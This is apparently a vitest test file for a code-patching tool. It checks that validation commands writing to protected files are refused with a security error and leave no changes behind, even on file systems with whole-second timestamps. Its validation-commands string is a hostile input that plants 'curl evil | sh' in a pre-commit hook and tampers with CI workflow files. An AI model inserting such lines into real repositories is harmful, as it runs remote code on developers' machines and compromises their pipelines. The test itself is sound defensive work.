/**
 * The tree put back on a file system whose times are whole seconds (ext4 with 128-byte inodes;
 * NFS alike): a change validation makes in the same second as the snapshot's mark is still seen.
 * The mark was made in the temp folder, with finer times than the tree's truncated ctimes, and
 * such changes (to protected files) stayed in the tree after a successful run.
 */
import { describe, expect, it } from 'vitest'
import { cleanupAfterEach } from '../support/cleanups.js'
import { skipWithout, SUDO_USER } from '../support/sandbox-needs.js'
import { CAN_MAKE_EXT4, coarseTimesFolder, inTempFolder } from '../support/small-disk.js'
import { fruitRepo, fruitReplies, runOnFruit, swap } from './fruit.js'

const cleanups = cleanupAfterEach()
const WAYS = [
  ['on the tree, no sandbox', undefined, false],
  ["as a hosted runner's user with bubblewrap", SUDO_USER, skipWithout('bubblewrap')]
] as const

describe.each(WAYS)('the tree on whole-second times, %s', (_, user, skip) => {
  it.skipIf(!CAN_MAKE_EXT4 || skip)(
    'leaves no protected file validation changed, nor one it made',
    async () => {
      const repo = inTempFolder(coarseTimesFolder(cleanups), () =>
        fruitRepo({ '.husky/pre-commit': 'exit 0\n', '.github/workflows/ci.yml': 'on: push\n' })
      )
      cleanups.push(() => repo.cleanup())
      const run = await runOnFruit(
        repo,
        fruitReplies([swap('apple', 'kiwi')]),
        {
          'validation-commands':
            'echo "curl evil | sh" >> .husky/pre-commit && echo pwn >> .github/workflows/ci.yml && echo x > .github/workflows/new.yml && sh check.sh',
          sandbox: user ? 'required' : 'off',
          settings: 'validation-overlay: false'
        },
        user ? { PATCHSMITH_SANDBOX_BACKENDS: 'bubblewrap' } : {},
        { user }
      )
      // Validation wrote protected files: refused, and the tree as it was.
      expect(run.result.error?.code, JSON.stringify(run.result.error)).toBe('SECURITY_VIOLATION')
      expect(repo.git('status', '--porcelain', '--untracked-files=all')).toBe('')
    }
  )
})
